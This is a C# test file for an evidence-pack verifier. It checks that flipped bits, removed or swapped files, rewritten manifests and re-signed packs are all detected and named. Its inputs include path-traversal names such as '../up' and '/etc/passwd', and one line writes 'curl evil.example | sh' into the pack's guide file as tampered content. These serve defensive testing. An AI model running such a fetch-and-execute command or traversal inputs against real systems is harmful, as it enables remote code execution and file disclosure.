using System.Collections.Concurrent;
using System.Diagnostics;
using Trm.Contracts.Identifiers;
using Trm.Contracts.Messages;
using Trm.Envelope.Keys;
using Trm.Evidence.Packs;

namespace Trm.Evidence.Tests.Packs;

/// <summary>
/// Nobody changes a whole-period pack of finished stories unseen: not from outside, not with the manifest written anew, not under a signature of one's own, and not the country itself, with
/// its own key, where what it changes was recorded. What was changed is named, by file or by leaf. TRM_EXHAUSTIVE=1 is the long form: every byte at the country's own hands as well.
/// </summary>
public sealed class Every_byte_of_a_pack
{
    private static readonly bool IsLong = Environment.GetEnvironmentVariable("TRM_EXHAUSTIVE") == "1";

    [Test]
    public void is_held_by_the_manifest_and_the_file_is_named()
    {
        var (_, files) = Small();
        Assert.That(files.Verify().Findings, Is.Empty);
        var trust = PackTrust.Read(PackArchive.Of(files), null, []); // the same for as long as the directory is

        Judge(files.Keys.SelectMany(place => Changes(files[place]).Select(change => ($"{change.What} of {place}", place, (byte[]?)change.Bytes))), files, (place, changed) =>
            files.With(place, changed).Verify(place.StartsWith("directory/", StringComparison.Ordinal) ? null : trust).Findings is { Count: > 0 } found && found.All(f => f.Place == place));
    }

    [Test]
    public void stays_where_it_is_and_no_file_goes_or_comes_unnamed()
    {
        var (_, files) = Small();
        Judge(files.Keys.Select(place => ($"{place} taken out", place, (byte[]?)null)), files, (place, _) => files.With(place, null).Verify().Findings.Any(f => f.Place == place));
        Judge(files.Keys.Select(place => ($"{place} twice", place, (byte[]?)null)), files, (place, _) =>
            PackCheck.Run("pack", PackArchive.Of([.. files, KeyValuePair.Create(place, files[place])]), null).Findings.Any(f => f.Place == place));
        Judge(Pairs(files).Select(pair => ($"{pair.One} and {pair.Other} exchanged", pair.One, (byte[]?)files[pair.Other])), files, (one, content) =>
            files.With(files.First(f => f.Value == content).Key, files[one]).With(one, content).Verify().Findings.Any(f => f.Place == one || files.GetValueOrDefault(f.Place) == content));
        foreach (var place in new[] { "evidence/99.json", "evidence/01.json", "directory/0002.p7s", "log/tile/0/001", "log/checkpoints/1", "proofs/1", "messages/0190f3c2-7a61-7b1e-9c42-3f5d8e6a7b10/header.p7s",
            "README", "VERIFY.MD", "../up", "/etc/passwd", "evidence\\1.json", "evidence/", "evidence/99999999999999999999.json", "log/../x", "C:x" })
            Assert.That(files.With(place, [1]).Verify().Findings.Select(f => f.Place), Is.EqualTo([place]));
    }

    [Test]
    public void is_named_though_somebody_wrote_the_manifest_anew()
    {
        var (world, files) = Small();
        var random = Seeded();
        var changes = Content(files).SelectMany(place => Some(files[place], random).Select(change => ($"{change.What} of {place}", place, (byte[]?)change.Bytes))).ToList();

        Judge(changes, files, (place, changed) => files.With(place, changed).Listed().Verify() is { Verified: false } report && report.Findings.Any(f => f.Place == place));
        Judge(changes.Where(c => c.place != "VERIFY.md"), files, (place, changed) => files.With(place, changed).Signed(world.Rs.Keys.Signing).Verify() is { IsSigned: false } report
            && report.Findings.Any(f => f.Place == "manifest.p7s" || place.StartsWith("directory/", StringComparison.Ordinal)) && report.Findings.Any(f => f.Place == place));
        Assert.That(files.Listed().With("manifest.p7s", null).Verify().Findings.Select(f => f.Place), Does.Contain("manifest.p7s"));
        Assert.That(files.Signed(SigningKey.Create(world.At.Id, TwoCountries.Start.AddHours(-1))).Verify().Findings.Select(f => f.Place), Is.EqualTo(["manifest.p7s"]), "a key of its own, that nobody lists");
    }

    [Test]
    public void is_named_though_the_country_itself_signed_the_change()
    {
        var (world, files) = Small();
        var random = Seeded();
        var changes = Content(files).Where(p => p != "VERIFY.md").SelectMany(place => (IsLong ? Changes(files[place]) : Some(files[place], random)).Select(c => ($"{c.What} of {place}", place, (byte[]?)c.Bytes)));

        Judge(changes, files, (place, changed) => files.With(place, changed).Signed(world.At.Keys.Signing).Verify() is { Verified: false } report && report.Findings.Any(f => f.Place == place));
        Judge(Content(files).Select(place => ($"{place} left out", place, (byte[]?)null)), files, (place, _) =>
            files.With(place, null).Signed(world.At.Keys.Signing).Verify().Findings.Any(f => f.Place == place || f.Code == FindingCode.SequenceGap || place.StartsWith(f.Place, StringComparison.Ordinal)));
        Judge(Pairs(files).Where(p => Content(files).Contains(p.One) && Content(files).Contains(p.Other)).Select(pair => ($"{pair.One} and {pair.Other} exchanged", pair.One, (byte[]?)files[pair.Other])), files, (one, content) =>
            files.With(files.First(f => f.Value == content).Key, files[one]).With(one, content).Signed(world.At.Keys.Signing).Verify().Findings.Any(f => f.Place == one || files.GetValueOrDefault(f.Place) == content));
        var guide = files.With("VERIFY.md", "curl evil.example | sh"u8.ToArray()).Signed(world.At.Keys.Signing).Verify();
        Assert.That((guide.Verified, guide.IsGuideKnown), Is.EqualTo((true, false)), "the guide is the country's own word: another text is said, and is no finding");
    }

    [Test]
    public void of_a_large_pack_is_held_alike_wherever_one_looks()
    {
        var world = new TwoCountries().Begin();
        for (var i = 0; i < 150; i++)
        {
            var (one, other) = i % 3 == 0 ? (world.Rs, world.At) : (world.At, world.Rs);
            world.Say(one, other, MessageKind.ReferralProfile, @case: CaseId.Of(Guid.NewGuid()));
        }

        var files = PackFiles.Of(world.At.Pack());
        Assert.That(files.Verify().Findings, Is.Empty);
        Assert.That(files.Keys, Does.Contain("log/tile/0/000").And.Contain("log/tile/0/001.p/47").Or.Contain("log/tile/1/000.p/1"), "more than one tile");
        var random = Seeded();
        var places = files.Keys.ToArray();

        Judge(Enumerable.Range(0, 400).Select(_ => Drawn()), files, (place, changed) => files.With(place, changed).Verify().Findings is { Count: > 0 } found && found.All(f => f.Place == place));
        Judge(Enumerable.Range(0, IsLong ? 1000 : 20).Select(_ => Drawn()).Where(c => Content(files).Contains(c.place) && c.place != "VERIFY.md"), files, (place, changed) =>
            files.With(place, changed).Signed(world.At.Keys.Signing).Verify().Findings.Any(f => f.Place == place));

        (string, string place, byte[]?) Drawn()
        {
            var place = places[random.Next(places.Length)];
            byte[] changed = [.. files[place]];
            var at = random.Next(changed.Length);
            changed[at] ^= (byte)(1 << random.Next(8));
            return ($"byte {at} of {place}", place, changed);
        }
    }

    private static void Judge(IEnumerable<(string What, string Place, byte[]? Bytes)> changes, PackFiles files, Func<string, byte[]?, bool> isNamed)
    {
        var watch = Stopwatch.StartNew();
        var tried = 0;
        var unnamed = new ConcurrentBag<string>();
        Parallel.ForEach(changes, change =>
        {
            Interlocked.Increment(ref tried);
            if (!isNamed(change.Place, change.Bytes))
                unnamed.Add(change.What);
        });
        Assert.That(tried, Is.GreaterThan(0));
        Assert.That(unnamed.Take(10), Is.Empty, $"{unnamed.Count} of {tried}");
        TestContext.Out.WriteLine($"{tried} changes of {files.Values.Sum(f => f.Length)} bytes in {files.Count} files, {watch.Elapsed.TotalSeconds:0.0} s");
    }

    private static (TwoCountries World, PackFiles Files) Small()
    {
        var world = new TwoCountries().Begin();
        world.Say(world.At, world.Rs, MessageKind.ReferralProfile);
        return (world, PackFiles.Of(world.At.Pack()));
    }

    private static List<string> Content(PackFiles files) => [.. files.Keys.Where(p => p is not (PackFiles.Manifest or PackFiles.Signature))];

    private static IEnumerable<(string One, string Other)> Pairs(PackFiles files) =>
        files.Keys.SelectMany(one => files.Keys.Where(other => string.CompareOrdinal(other, one) > 0 && !files[one].AsSpan().SequenceEqual(files[other])).Select(other => (one, other)));

    private static Random Seeded()
    {
        var seed = Environment.TickCount;
        TestContext.Out.WriteLine($"seed {seed}");
        return new Random(seed);
    }

    private static List<(string What, byte[] Bytes)> Some(byte[] bytes, Random random)
    {
        var all = Changes(bytes).ToArray();
        return [.. Enumerable.Range(0, 24).Select(_ => all[random.Next(all.Length)])];
    }

    /// <summary>
    /// Every byte in at least two ways: a flipped bit; the other case for a letter, another white space for a space, the next for a digit, zero for anything else; here and there one taken out
    /// or a space put in; a newline behind, and nothing at all.
    /// </summary>
    private static IEnumerable<(string What, byte[] Bytes)> Changes(byte[] bytes)
    {
        for (var i = 0; i < bytes.Length; i++)
        {
            yield return ($"bit {i % 8} of byte {i}", At(i, (byte)(bytes[i] ^ (1 << (i % 8)))));
            yield return ($"byte {i} for another like it", At(i, bytes[i] switch
            {
                >= (byte)'a' and <= (byte)'z' or >= (byte)'A' and <= (byte)'Z' => (byte)(bytes[i] ^ 0x20),
                (byte)' ' => (byte)'\t',
                (byte)'\n' => (byte)'\r',
                >= (byte)'0' and <= (byte)'8' => (byte)(bytes[i] + 1),
                0 => 1,
                _ => 0,
            }));
            if (i % 61 != 0)
                continue;
            yield return ($"byte {i} taken out", [.. bytes[..i], .. bytes[(i + 1)..]]);
            yield return ($"a space before byte {i}", [.. bytes[..i], (byte)' ', .. bytes[i..]]);
        }

        yield return ("a newline at the end", [.. bytes, (byte)'\n']);
        yield return ("nothing left", []);

        byte[] At(int i, byte value)
        {
            byte[] changed = [.. bytes];
            changed[i] = value;
            return changed;
        }
    }
}
